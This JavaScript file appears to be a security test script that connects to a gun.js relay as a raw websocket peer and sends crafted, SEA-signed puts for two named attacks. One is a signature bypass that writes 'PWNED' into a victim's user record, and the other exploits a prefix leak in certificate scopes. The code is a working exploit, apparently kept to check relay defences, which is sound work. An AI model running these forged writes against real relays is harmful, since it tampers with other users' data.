// rawput.mjs <relay-url> <attack> [victim-pub]: a raw peer (plain ws and
// gun's SEA functions, no gun.js instance: the way a foreign peer works)
// sends one crafted put and prints the relay's answer: "ACK ok",
// "ERR <text>", or "NOACK" after 4 s. Attacks:
//
//   bypass <victim>  research/gun.md §5.2: ~victim.status = "PWNED", signed
//                    by a fresh key that names itself in "*", no "+".
//   inboxevil        a fresh owner A certifies a fresh B for {"*":"inbox"};
//                    B writes ~A.inboxEVIL (a prefix leak in gun.js).
//                    Prints "OWNER <A pub>" first.
import WebSocket from 'ws';
import { SEA, watchdog } from '../../../internal/nodetest/js/peer.mjs';

watchdog(30000);
const [url, attack, victim] = process.argv.slice(2);
const out = (s) => process.stdout.write(s + '\n');
const id = () => Math.random().toString(36).slice(2, 14);

async function wrapper(pair, soul, field, value, state, extra) {
	const s = await SEA.sign({ '#': soul, '.': field, ':': value, '>': state }, pair, null, { raw: 1 });
	return JSON.stringify({ ':': s.m[':'], '~': s.s, ...extra });
}

let soul, field, value;
const state = Date.now();
if (attack === 'bypass') {
	const C = await SEA.pair();
	soul = '~' + victim;
	field = 'status';
	value = await wrapper(C, soul, field, 'PWNED', state, { '*': C.pub });
} else if (attack === 'inboxevil') {
	const A = await SEA.pair();
	const B = await SEA.pair();
	out('OWNER ' + A.pub);
	const cert = JSON.parse((await SEA.certify(B.pub, { '*': 'inbox' }, A)).slice(3));
	soul = '~' + A.pub;
	field = 'inboxEVIL';
	value = await wrapper(B, soul, field, 'leak', state, { '+': cert, '*': B.pub });
} else {
	throw new Error('unknown attack ' + attack);
}

const ws = new WebSocket(url.replace(/^http/, 'ws'));
const mid = id();
ws.on('open', () => {
	ws.send(JSON.stringify({ '#': mid, put: { [soul]: { _: { '#': soul, '>': { [field]: state } }, [field]: value } } }));
	setTimeout(() => { out('NOACK'); process.exit(0); }, 4000);
});
ws.on('message', (data) => {
	let msgs;
	try { msgs = JSON.parse(String(data)); } catch { return; }
	for (const m of Array.isArray(msgs) ? msgs : [msgs]) {
		if (m && m['@'] === mid) {
			out(m.err ? 'ERR ' + m.err : 'ACK ok');
			process.exit(0);
		}
	}
});
